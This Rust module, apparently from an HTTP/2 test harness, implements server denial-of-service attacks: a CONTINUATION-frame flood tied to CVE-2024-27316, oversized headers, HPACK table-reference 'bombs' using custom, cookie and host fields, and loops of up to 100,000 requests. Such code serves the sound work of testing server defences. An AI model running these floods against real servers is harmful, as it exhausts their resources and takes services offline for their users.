//! Heads of requests that are more than they seem.

use tokio::net::TcpStream;

use super::flood;
use crate::raw::{CONTINUATION, Client, END_HEADERS, END_STREAM, HEADERS, REQUEST, frame, literal};

/// CVE-2024-27316.
pub(super) async fn continuations(io: TcpStream) {
    let mut client = Client::connect(io).await;
    client.send(HEADERS, END_STREAM, 1, &REQUEST).await;
    let field = frame(CONTINUATION, 0, 1, &literal("x-a", &"a".repeat(100)));
    flood(&mut client.0, &field.repeat(100)).await;
}

/// One head after the other on streams of their own, each with its table updates if any.
async fn repeat(io: TcpStream, fields: &[u8]) {
    let mut client = Client::connect(io).await;
    let head = [&REQUEST, fields].concat();
    for n in 0..100_000 {
        let mut pieces = head.chunks(16_000);
        let first = pieces.next().unwrap_or_default();
        let ends = |left: usize| if left == 0 { END_HEADERS } else { 0 };
        client.send(HEADERS, END_STREAM | ends(pieces.len()), 2 * n + 1, first).await;
        while let Some(piece) = pieces.next() {
            client.send(CONTINUATION, ends(pieces.len()), 2 * n + 1, piece).await;
        }
        // One answer for each, whatever it is.
        if client.next().await.is_none() {
            return;
        }
    }
}

/// More bytes than allowed, and no more than are read before that shows.
pub(super) async fn too_large(io: TcpStream) {
    let fields: Vec<u8> =
        (0..200).flat_map(|n| literal(&format!("x-{n}"), &"a".repeat(110))).collect();
    repeat(io, &fields).await;
}

/// A field of 4 000 bytes that is named 8 000 times.
pub(super) async fn bomb(io: TcpStream) {
    // Literal with incremental indexing: it is number 62 of the table from then on.
    let mut fields = vec![0x40, 0x03, b'x', b'-', b'a', 0x7f, 0x81, 0x1e];
    fields.extend(vec![b'a'; 127 + 1 + (0x1e << 7)]);
    fields.extend(std::iter::repeat_n(0x80 | 62, 8_000));
    repeat(io, &fields).await;
}

/// The same with `cookie`, whose fields are joined (RFC 9113 §8.2.3).
pub(super) async fn crumbs(io: TcpStream) {
    // The name is number 32 of the static table.
    let mut fields = vec![0x60, 0x7f, 0x81, 0x1e];
    fields.extend(vec![b'a'; 127 + 1 + (0x1e << 7)]);
    fields.extend(std::iter::repeat_n(0x80 | 62, 8_000));
    repeat(io, &fields).await;
}

/// The same with `host`, of which there may be one.
pub(super) async fn hosts(io: TcpStream) {
    // The name is number 38 of the static table.
    let mut fields = vec![0x66, 0x02, b'a', b'b'];
    fields.extend(std::iter::repeat_n(0x80 | 62, 100));
    repeat(io, &fields).await;
}
